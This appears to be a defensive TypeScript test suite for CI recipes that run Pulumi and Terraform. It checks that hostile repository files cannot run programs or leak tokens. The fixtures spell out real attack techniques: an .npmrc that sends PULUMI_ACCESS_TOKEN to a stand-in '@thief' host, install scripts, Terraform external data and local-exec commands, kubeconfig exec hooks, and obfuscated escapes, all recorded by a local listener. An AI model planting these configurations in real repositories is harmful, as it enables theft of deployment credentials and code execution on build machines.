import assert from "node:assert/strict";
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pulumiDestroy } from "../../../components/recipes/pulumi-destroy";
import { pulumiDestroyPreview } from "../../../components/recipes/pulumi-destroy-preview";
import { pulumiUp } from "../../../components/recipes/pulumi-up";
import { terraformDestroyPreview } from "../../../components/recipes/terraform-destroy-preview";
import { type BuildMachine, makeBuildMachine } from "../../support/build-machine";
import { type BuildRun, runBuildspec } from "../../support/run-buildspec";

const stack = "acme/shop/prod";
const token = "pul-4711-of-production";
const bucket = "urn:pulumi:prod::shop::aws:s3/bucket:Bucket::assets";
const dynamic = "urn:pulumi:prod::shop::pulumi:providers:pulumi-nodejs::default";
const backend = 'terraform {\n  backend "s3" {}\n}\n';
const hashicorp = 'provider "registry.terraform.io/hashicorp/aws" {\n  version = "6.2.0"\n}\n';
const lockOf = (root: object, packages: object = {}) =>
  JSON.stringify({ name: "shop", lockfileVersion: 3, requires: true, packages: { "": root, ...packages } });

/** The files of a repository. `@thief` becomes the address of the listener, `@evil` the path of a hostile program. */
type Files = Readonly<Record<string, string>>;

interface Hostile {
  readonly files: Files;
  /** The message of a refusal. Without one the build succeeds, and the files have no effect. */
  readonly refused?: RegExp;
}

const gitDependency = "git+ssh://git@example.com/acme/x.git#0123456789abcdef0123456789abcdef01234567";
const withGit = { name: "shop", version: "1.0.0", dependencies: { x: gitDependency } };
const gitRepository = {
  "deploy/.npmrc": "git=@evil\n",
  "deploy/package.json": JSON.stringify(withGit),
  "deploy/package-lock.json": lockOf(withGit, { "node_modules/x": { version: "1.0.0", resolved: gitDependency } }),
};
const scripts = {
  "deploy/package.json": JSON.stringify({
    name: "shop",
    version: "1.0.0",
    scripts: { preinstall: "@evil", prepare: "@evil" },
  }),
  "deploy/package-lock.json": lockOf({ name: "shop", version: "1.0.0", hasInstallScript: true }),
};
const plain = {
  "deploy/package.json": '{"name":"shop","version":"1.0.0"}',
  "deploy/package-lock.json": lockOf({ name: "shop", version: "1.0.0" }),
};
const project = "name: shop\nruntime: nodejs\n";
const backendInProject = { "deploy/Pulumi.yaml": `${project}backend:\n  url: @thief\n` };
const pluginByPath = { "deploy/Pulumi.yaml": `${project}plugins:\n  providers:\n    - name: aws\n      path: @evil\n` };

const pulumiPreviews: Readonly<Record<string, Hostile>> = {
  "a backend in Pulumi.yaml": { files: backendInProject },
  "a backend in a Pulumi.yaml above the directory": {
    files: { "Pulumi.yaml": backendInProject["deploy/Pulumi.yaml"] },
  },
  "a plugin by its path": { files: pluginByPath },
  "an .npmrc that replaces git, and a dependency from git": { files: gitRepository },
  "an .npmrc that sends the token to a registry": {
    files: { ...plain, "deploy/.npmrc": `registry=@thief/\${PULUMI_ACCESS_TOKEN}/\n` },
  },
  "scripts of the package": { files: scripts },
  "settings of the stack with a secrets provider of their own": {
    files: { "deploy/Pulumi.prod.yaml": "secretsprovider: hashivault://x?address=@thief\n" },
  },
};

const foreign = /^These packages are not of the public npm registry\. A destroy installs no others\.$/m;
const pulumiDestroys: Readonly<Record<string, Hostile>> = {
  "a backend in Pulumi.yaml": { files: { ...plain, ...backendInProject } },
  "a plugin by its path": { files: { ...plain, ...pluginByPath } },
  "an .npmrc that replaces git, and a dependency from git": { files: gitRepository, refused: foreign },
  "an .npmrc that sends the token to a registry": {
    files: { ...plain, "deploy/.npmrc": `registry=@thief/\${PULUMI_ACCESS_TOKEN}/\n` },
  },
  "scripts of the package": { files: scripts },
  "a tarball of another host": {
    files: {
      "deploy/package.json": '{"name":"shop","version":"1.0.0","dependencies":{"x":"1.0.0"}}',
      "deploy/package-lock.json": lockOf(
        { name: "shop", version: "1.0.0", dependencies: { x: "1.0.0" } },
        { "node_modules/x": { version: "1.0.0", resolved: "@thief/x.tgz" } },
      ),
    },
    refused: foreign,
  },
  "a package without the hash of its content": {
    files: {
      "deploy/package.json": '{"name":"shop","version":"1.0.0","dependencies":{"x":"1.0.0"}}',
      "deploy/package-lock.json": lockOf(
        { name: "shop", version: "1.0.0", dependencies: { x: "1.0.0" } },
        { "node_modules/x": { version: "1.0.0", resolved: "https://registry.npmjs.org/x/-/x-1.0.0.tgz" } },
      ),
    },
    refused: foreign,
  },
  "a dependency from git that the lock file does not name": {
    files: { ...plain, "deploy/package.json": JSON.stringify({ ...withGit, overrides: { y: "github:acme/y" } }) },
    refused: foreign,
  },
};

const pulumiUps: Readonly<Record<string, Hostile>> = {
  "a backend in Pulumi.yaml": { files: { ...plain, ...backendInProject } },
  "an .npmrc that replaces git, and a dependency from git": { files: gitRepository, refused: /npm error/ },
  "scripts of the package": { files: scripts },
};

const cannot = /^This module cannot be destroyed behind an approval\. Nothing has run\.$/m;
const moduleOf = (text: string) => ({ "deploy/main.tf": `${backend}${text}\n` });
const provider = (address: string) => hashicorp.replace("registry.terraform.io/hashicorp/aws", address);
const terraformPreviews: Readonly<Record<string, Hostile>> = {
  "external data": { files: moduleOf('data "external" "x" {\n  program = ["@evil"]\n}'), refused: cannot },
  "external data without quotation marks": {
    files: moduleOf('data external x {\n  program = ["@evil"]\n}'),
    refused: cannot,
  },
  "external data behind a comment": {
    files: moduleOf('data /* a\n comment */ "external" "x" {\n  program = ["@evil"]\n}'),
    refused: cannot,
  },
  "external data in JSON, with an escape": {
    files: { "deploy/x.tf.json": '{"data":{"\\u0065xternal":{"x":{"program":["@evil"]}}}}' },
    refused: cannot,
  },
  "external data in JSON behind another data source": {
    files: { "deploy/x.tf.json": '{"data":{"aws_region":{"r":{}},"external":{"x":{"program":["@evil"]}}}}' },
    refused: cannot,
  },
  "external data with a long escape": {
    files: moduleOf('data "\\U00000065xternal" "x" {\n  program = ["@evil"]\n}'),
    refused: cannot,
  },
  "a data source that runs a command": {
    files: moduleOf('data "local_command" "x" {\n  command = "@evil"\n}'),
    refused: cannot,
  },
  "an ephemeral resource that runs a command": {
    files: moduleOf('ephemeral "local_comman\\u0064" "x" {\n  command = "@evil"\n}'),
    refused: cannot,
  },
  "the state of a cluster that a program opens": {
    files: moduleOf(
      'data "terraform_remote_state" "x" {\n  backend = "kubernetes"\n  config = {\n    secret_suffix = "x"\n    exec = { api_version = "v1", command = "@evil" }\n  }\n}',
    ),
    refused: cannot,
  },
  "a state whose configuration is computed": {
    files: {
      ...moduleOf('data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = jsondecode(file("x.json"))\n}'),
      "deploy/x.json": '{"shared_config_files":["evil.ini"],"profile":"evil"}',
    },
    refused: cannot,
  },
  "a state with a profile behind the bucket": {
    files: moduleOf(
      'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = {\n    bucket = "x", profile = "evil"\n  }\n}',
    ),
    refused: cannot,
  },
  "the state of a cluster in JSON": {
    files: {
      "deploy/x.tf.json":
        '{"data":{"terraform_remote_state":{"x":{"backend":"kubernetes","config":{"exec":{"command":"@evil"}}}}}}',
    },
    refused: cannot,
  },
  "a store of states of its own": {
    files: { "deploy/main.tf": 'terraform {\n  state_store "evil_store" {\n    provider "evil" {}\n  }\n}\n' },
    refused: cannot,
  },
  "a kubeconfig file that runs a program": {
    files: {
      ...moduleOf('provider "kubernetes" {\n  config_path = "config.yaml"\n}'),
      "deploy/config.yaml": "users:\n  - user:\n      exec:\n        command: @evil\n",
      "deploy/.terraform.lock.hcl": hashicorp.replace("hashicorp/aws", "hashicorp/kubernetes"),
    },
    refused: /^The module uses the provider registry\.terraform\.io\/hashicorp\/kubernetes, which would run before/m,
  },
  "a cluster of Helm's that a program opens": {
    files: {
      ...moduleOf('provider "helm" {\n  kubernetes = {\n    exec = { command = "@evil" }\n  }\n}'),
      "deploy/.terraform.lock.hcl": hashicorp.replace("hashicorp/aws", "hashicorp/helm"),
    },
    refused: /^The module uses the provider registry\.terraform\.io\/hashicorp\/helm, which would run before/m,
  },
  "a local provisioner": {
    files: moduleOf('resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "@evil"\n  }\n}'),
    refused: cannot,
  },
  "a backend of another kind": {
    files: { "deploy/main.tf": 'terraform {\n  backend "http" {\n    address = "@thief"\n  }\n}\n' },
    refused: cannot,
  },
  "a backend with an endpoint": {
    files: { "deploy/main.tf": 'terraform {\n  backend "s3" {\n    endpoint = "@thief"\n  }\n}\n' },
    refused: cannot,
  },
  "a backend in JSON that overrides": {
    files: { ...moduleOf(""), "deploy/x_override.tf.json": '{"terraform":{"backend":{"http":{"address":"@thief"}}}}' },
    refused: cannot,
  },
  "Terraform Cloud": {
    files: { "deploy/main.tf": 'terraform {\n  cloud {\n    hostname = "@thief"\n  }\n}\n' },
    refused: cannot,
  },
  "a file of credentials": {
    files: moduleOf('provider "aws" {\n  shared_config_files = ["./evil"]\n}'),
    refused: cannot,
  },
  "a plugin of credentials": {
    files: moduleOf('provider "kubernetes" {\n  exec {\n    api_version = "v1"\n    command     = "@evil"\n  }\n}'),
    refused: cannot,
  },
  "encryption of OpenTofu's by a program": {
    files: moduleOf(
      'terraform {\n  encryption {\n    key_provider "external" "x" {\n      command = ["@evil"]\n    }\n  }\n}',
    ),
    refused: cannot,
  },
  "the provider external in the lock file alone": {
    files: { "deploy/.terraform.lock.hcl": provider("registry.terraform.io/hashicorp/external") },
    refused: /^The module uses the provider registry\.terraform\.io\/hashicorp\/external, which would run before/m,
  },
  "a provider of its own publisher": {
    files: { "deploy/.terraform.lock.hcl": provider("registry.terraform.io/evil/aws") },
    refused: /^The module uses the provider registry\.terraform\.io\/evil\/aws, which would run before/m,
  },
  "a provider in a folder that Terraform takes for a mirror": {
    files: {
      "deploy/terraform.d/plugins/registry.terraform.io/hashicorp/aws/6.2.0/linux_amd64/provider": "exec @evil\n",
    },
  },
  "installed providers": {
    files: {
      "deploy/.terraform/providers/registry.terraform.io/hashicorp/aws/6.2.0/linux_amd64/provider": "exec @evil\n",
    },
  },
  "a module from git with a local provisioner": {
    files: moduleOf('module "x" {\n  source = "git::file://@repository"\n}'),
    refused: /modules\/x\/main\.tf: the provisioner "local-exec" runs a program$/m,
  },
};

/** Makes a git repository of a Terraform module that runs a program. */
function makeModule(folder: string): void {
  mkdirSync(folder);
  writeFileSync(join(folder, "main.tf"), 'resource "terraform_data" "x" {\n  provisioner "local-exec" {}\n}\n');
  const git = (...args: string[]) => {
    const config = ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "init.defaultBranch=main"];
    const { status, stderr } = spawnSync("git", [...config, ...args], { cwd: folder, encoding: "utf8" });
    assert.equal(status, 0, stderr);
  };
  git("init", "--quiet");
  git("add", ".");
  git("commit", "--quiet", "--message", "module");
}

describe("A hostile repository", () => {
  let machine: BuildMachine;
  let thief: ChildProcess;
  let address: string;
  let variables: Record<string, string>;
  const pulumi = { version: "3.248.0", directory: "deploy", stack };
  const terraform = {
    version: "1.13.5",
    directory: "deploy",
    state: { bucketName: "acme-state", region: "eu-central-1", key: "shop/prod.tfstate" },
  };
  let hashes: { pulumi: string; terraform: string };

  /** A folder for requests to the thief, and for a repository of a module. */
  const shared = mkdtempSync(join(tmpdir(), "thief-"));

  before(async () => {
    const listen = `require("node:http").createServer((request, response) => {
      const heard = [request.url, JSON.stringify(request.headers)];
      request.on("data", (part) => heard.push(part)).on("end", () => {
        require("node:fs").appendFileSync(${JSON.stringify(join(shared, "requests"))}, heard.join(" "));
        response.end("{}");
      });
    }).listen(0, "127.0.0.1", function () { console.log(this.address().port); });`;
    thief = spawn("node", ["-e", listen], { stdio: ["ignore", "pipe", "inherit"] });
    assert.ok(thief.stdout);
    const [port] = await once(thief.stdout, "data");
    address = `http://127.0.0.1:${String(port).trim()}`;
    makeModule(join(shared, "module"));
  });
  after(() => {
    thief.kill();
    rmSync(shared, { recursive: true });
  });

  beforeEach(() => {
    rmSync(join(shared, "requests"), { force: true });
    machine = makeBuildMachine(["npm", "git"]);
    hashes = {
      pulumi: machine.offer("pulumi-v3.248.0-linux-x64.tar.gz", "pulumi"),
      terraform: machine.offer("terraform_1.13.5_linux_amd64.zip", "terraform"),
    };
    machine.write("evil", `#!/bin/sh\necho "$0 $*" >> '${machine.root}/ran'\nenv >> '${machine.root}/ran'\n`);
    chmodSync(join(machine.root, "evil"), 0o755);
    machine.write("state/stacks", `${stack}\n`);
    machine.write("state/resources", `${bucket}\n`);
    variables = {
      PULUMI_ACCESS_TOKEN: token,
      AWS_SESSION_TOKEN: "session-token",
      IMAGE_REPOSITORY_URI: "111122223333.dkr.ecr.eu-central-1.amazonaws.com/shop",
      CODEBUILD_RESOLVED_SOURCE_VERSION: "4f1d9b1c0e5a4b8f9d2c7a6b5e4f3d2c1b0a9f8e",
      CODEBUILD_BUILD_ARN: "arn:aws:codebuild:eu-central-1:111122223333:build/shop-prod-preview:0a1b",
      CODEBUILD_SRC_DIR_DestroyPlan: join(machine.root, "plan"),
    };
    commit({ "deploy/Pulumi.yaml": project, "deploy/.terraform.lock.hcl": hashicorp, "deploy/main.tf": backend });
  });
  afterEach(() => machine.remove());

  /** The requests that the thief heard; undefined if there is none. */
  function stolen(): string | undefined {
    const file = join(shared, "requests");
    return existsSync(file) ? readFileSync(file, "utf8") : undefined;
  }

  function commit(files: Files) {
    for (const [file, text] of Object.entries(files)) {
      const content = text
        .replaceAll("@thief", address)
        .replaceAll("@evil", join(machine.root, "evil"))
        .replaceAll("@repository", join(shared, "module"));
      machine.write(`source/${file}`, content);
    }
  }

  function previewPulumi() {
    return runBuildspec(machine, pulumiDestroyPreview({ ...pulumi, sha256: hashes.pulumi }), variables);
  }

  function approve() {
    const run = previewPulumi();
    assert.equal(run.succeeded, true, run.output);
    mkdirSync(join(machine.root, "plan"), { recursive: true });
    copyFileSync(join(machine.source, "plan.json"), join(machine.root, "plan/plan.json"));
    variables.APPROVED_DIGEST = run.exported.PLAN_DIGEST ?? "";
  }

  /** Nothing of the commit ran, and nobody heard anything. */
  function nothingHappened({ succeeded, output }: BuildRun, refused: RegExp | undefined) {
    assert.equal(stolen(), undefined, output);
    assert.equal(machine.read("ran"), undefined, output);
    if (refused === undefined) {
      assert.equal(succeeded, true, output);
    } else {
      assert.equal(succeeded, false, output);
      assert.match(output, refused);
    }
  }

  for (const [what, { files, refused }] of Object.entries(pulumiPreviews)) {
    it(`with ${what} gets nothing from the preview of a destroy with Pulumi`, () => {
      commit(files);
      const run = previewPulumi();
      nothingHappened(run, refused);
      assert.equal(run.exported.RESOURCE_COUNT, "1");
    });
  }

  for (const [what, { files, refused }] of Object.entries(pulumiDestroys)) {
    it(`with ${what} gets nothing from a destroy with Pulumi, which installs packages for dynamic resources`, () => {
      machine.write("state/resources", `${bucket}\n${dynamic}\n`);
      commit(files);
      approve();
      const run = runBuildspec(
        machine,
        pulumiDestroy({ ...pulumi, sha256: hashes.pulumi, planArtifact: "DestroyPlan" }),
        variables,
      );
      nothingHappened(run, refused);
      assert.equal(existsSync(join(machine.root, "state/destroyed")), refused === undefined);
    });
  }

  for (const [what, { files, refused }] of Object.entries(pulumiUps)) {
    it(`with ${what} gets nothing from the installation before a deployment with Pulumi`, () => {
      commit(files);
      const run = runBuildspec(machine, pulumiUp({ ...pulumi, sha256: hashes.pulumi }), variables);
      nothingHappened(run, refused);
    });
  }

  for (const [what, { files, refused }] of Object.entries(terraformPreviews)) {
    it(`with ${what} gets nothing from the preview of a destroy with Terraform`, () => {
      machine.write("state/resources", "aws_s3_bucket.assets\n");
      commit(files);
      const run = runBuildspec(machine, terraformDestroyPreview({ ...terraform, sha256: hashes.terraform }), variables);
      nothingHappened(run, refused);
    });
  }

  it("gets nothing by settings and variables of Terraform's that somebody left on the machine", () => {
    machine.write("state/resources", "aws_s3_bucket.assets\n");
    machine.write("overrides/provider", `#!/bin/sh\nexec '${join(machine.root, "evil")}'\n`);
    chmodSync(join(machine.root, "overrides/provider"), 0o755);
    const overrides = `provider_installation {\n  dev_overrides {\n    "hashicorp/aws" = "${join(machine.root, "overrides")}"\n  }\n}\n`;
    machine.write("home/.terraformrc", overrides);
    const run = runBuildspec(machine, terraformDestroyPreview({ ...terraform, sha256: hashes.terraform }), {
      ...variables,
      TF_CLI_ARGS: "-no-such-option",
      TF_CLI_ARGS_plan: "-lock=true",
      TF_CLI_CONFIG_FILE: join(machine.root, "home/.terraformrc"),
    });
    nothingHappened(run, undefined);
  });

  describe("is as dangerous as it looks:", () => {
    const run = (commands: string[], more = {}) =>
      runBuildspec(machine, { phases: { build: { commands } } }, { ...variables, ...more });
    const install = (tool: "pulumi" | "terraform") =>
      `mkdir "$HOME/bin" && tar -xf "$TMPDIR"/../downloads/${tool}* ${tool === "pulumi" ? "--strip-components=1 " : ""}-C "$HOME/bin" && export PATH="$HOME/bin:$PATH"`;

    it("Pulumi sends its token to the backend of the project where nothing else says one", () => {
      commit(backendInProject);
      run([install("pulumi"), `pulumi stack export --cwd deploy --stack ${stack} --file "$TMPDIR/x"`]);
      assert.match(stolen() ?? "", new RegExp(token));
    });

    it("Pulumi starts the plugins of the project when its engine runs", () => {
      commit(pluginByPath);
      run([install("pulumi"), `pulumi destroy --preview-only --cwd deploy --stack ${stack}`]);
      assert.match(machine.read("ran") ?? "", new RegExp(token));
    });

    it("npm runs the git of an .npmrc, without scripts too", () => {
      commit(gitRepository);
      run(["npm ci --prefix deploy --ignore-scripts"]);
      assert.match(machine.read("ran") ?? "", new RegExp(token));
    });

    it("npm runs the scripts of the package", () => {
      commit(scripts);
      run(["npm ci --prefix deploy"]);
      assert.match(machine.read("ran") ?? "", new RegExp(token));
    });

    it("npm sends a variable to the registry of an .npmrc", () => {
      const dependency = { name: "shop", version: "1.0.0", dependencies: { x: "1.0.0" } };
      commit({
        "deploy/.npmrc": `registry=@thief/\${PULUMI_ACCESS_TOKEN}/\n`,
        "deploy/package.json": JSON.stringify(dependency),
        "deploy/package-lock.json": lockOf(dependency, { "node_modules/x": { version: "1.0.0" } }),
      });
      run(["npm ci --prefix deploy --ignore-scripts --fetch-retries=0"]);
      assert.match(stolen() ?? "", new RegExp(token));
    });

    for (const what of [
      "external data",
      "external data in JSON behind another data source",
      "external data with a long escape",
      "a data source that runs a command",
      "the state of a cluster that a program opens",
      "a kubeconfig file that runs a program",
      "a cluster of Helm's that a program opens",
      "a provider in a folder that Terraform takes for a mirror",
      "a backend of another kind",
    ]) {
      it(`Terraform runs or calls ${what}`, () => {
        commit(terraformPreviews[what]?.files ?? {});
        run([
          install("terraform"),
          "terraform -chdir=deploy init -backend-config=bucket=x",
          "terraform -chdir=deploy plan -out=plan",
        ]);
        assert.notEqual(`${machine.read("ran")}${stolen()}`, "undefinedundefined");
      });
    }
  });
});
